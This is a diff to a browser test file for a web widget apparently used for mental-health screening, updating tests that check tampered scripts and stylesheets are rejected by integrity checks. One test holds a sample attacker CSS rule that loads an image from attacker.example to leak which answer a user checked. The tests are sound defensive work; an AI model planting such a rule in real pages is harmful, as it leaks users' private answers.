@@ -9,7 +9,7 @@ import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { pathToFileURL } from 'node:url';
-import { serve, launch, openPage, act, ready, completeJourney, panicInTheWasm, CALM_PLAN, DIST } from './support.mjs';
+import { serve, launch, openPage, act, ready, completeJourney, panicInTheWasm, CALM_PLAN, DIST, shipped } from './support.mjs';
 
 const CRISIS = ['988', '911', '1-800-662-4357'];
 
@@ -76,8 +76,8 @@ test('the build: every page loads each script and stylesheet with a hash; carefi
   assert.ok(!fs.existsSync(path.join(DIST, 'carefit-web.js')), 'the app\'s glue is not shipped on its own');
   const entry = fs.readFileSync(path.join(DIST, 'carefit.js'), 'utf8');
   assert.doesNotMatch(entry, /^\s*import\b|\bimport\s*\(\s*['"`]/m, 'no import that names its module');
-  const integrity = JSON.parse(entry.match(/^const INTEGRITY = (\{[^}]*\});/)[1]);
-  assert.deepEqual(Object.keys(integrity).sort(), ['carefit-qr.js', 'carefit-qr_bg.wasm', 'carefit-web_bg.wasm', 'carefit.css']);
+  const files = JSON.parse(entry.match(/^const FILES = (\{.*?\});\n/)[1]);
+  assert.deepEqual(Object.keys(files).sort(), ['carefit-qr.js', 'carefit-qr_bg.wasm', 'carefit-web_bg.wasm', 'carefit.css']);
 });
 
 for (const [where, tamper] of Object.entries(TAMPERED_CAREFIT)) {
@@ -134,7 +134,7 @@ test('embed.html: its import finds the copy its tag checked, and one stylesheet 
   assert.equal(await widget.locator('.carefit[lang]').first().getAttribute('lang'), 'es');
   const count = (file) => log.requests.filter((u) => new URL(u).pathname === `/${file}`).length;
   assert.equal(count('carefit.js'), 1);
-  assert.equal(count('carefit.css'), 1);
+  assert.equal(count(shipped('carefit.css')), 1);
   assert.deepEqual(log.errors, []);
   await context.close();
 });
@@ -158,7 +158,7 @@ async function openAcross(origins) {
 test('carefit.css tampered: the widget on a partner\'s page refuses it, and still works', async () => {
   // What an attacker would add: a rule that tells a server which answer is chosen.
   const LEAK = '\n.carefit input:checked,.carefit{--cf-tampered:1;background-image:url(https://attacker.example/leak)!important}\n';
-  const dir = tamperedBuild('carefit.css', (text) => text + LEAK);
+  const dir = tamperedBuild(shipped('carefit.css'), (text) => text + LEAK);
   // The bundle on the center's host, with the README's CORS header; the widget on a partner's page.
   const headers = { 'access-control-allow-origin': '*' };
   const centers = { genuine: await serve(DIST, { headers }), tampered: await serve(dir, { headers }) };
@@ -200,7 +200,7 @@ test('carefit.css tampered: the widget on a partner\'s page refuses it, and stil
 });
 
 test('the QR encoder\'s glue tampered: none of it runs, and a kiosk result keeps its link as text', async () => {
-  const dir = tamperedBuild('carefit-qr.js', (text) => `window.__tampered = 'qr';\n${text}`);
+  const dir = tamperedBuild(shipped('carefit-qr.js'), (text) => `window.__tampered = 'qr';\n${text}`);
   const kiosk = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>k</title>
     <script type="module" src="/carefit.js"></script></head><body>
     <carefit-widget mode="kiosk" contact-url="https://hope.example/contact"></carefit-widget></body></html>`;
@@ -217,14 +217,14 @@ test('the QR encoder\'s glue tampered: none of it runs, and a kiosk result keeps
       await widget.locator('img.cf-qr[src^="data:image/svg+xml,"]').waitFor();
       assert.deepEqual(log.errors, []);
     } else {
-      await page.waitForFunction(() => performance.getEntriesByType('resource').some((e) => e.name.endsWith('/carefit-qr.js')));
+      await page.waitForFunction(() => performance.getEntriesByType('resource').some((e) => e.name.endsWith(`/${shipped('carefit-qr.js')}`)));
       await page.waitForTimeout(1000);
       assert.equal(await widget.locator('img.cf-qr[src]').count(), 0, 'no code drawn');
       assert.ok(consoleText.some((t) => /integrity/i.test(t)), 'the browser names the integrity failure');
       assert.match(await widget.locator('[data-screen="result"]').innerText(), /hope\.example\/contact/, 'the link, as text');
     }
     assert.equal(await page.evaluate(() => window.__tampered), undefined, kind);
-    assert.equal(log.requests.filter((u) => new URL(u).pathname === '/carefit-qr.js').length, 1, `${kind}: fetched once, by the checked tag`);
+    assert.equal(log.requests.filter((u) => new URL(u).pathname === `/${shipped('carefit-qr.js')}`).length, 1, `${kind}: fetched once, by the checked tag`);
     await context.close();
   }
   for (const center of Object.values(servers)) await center.close();
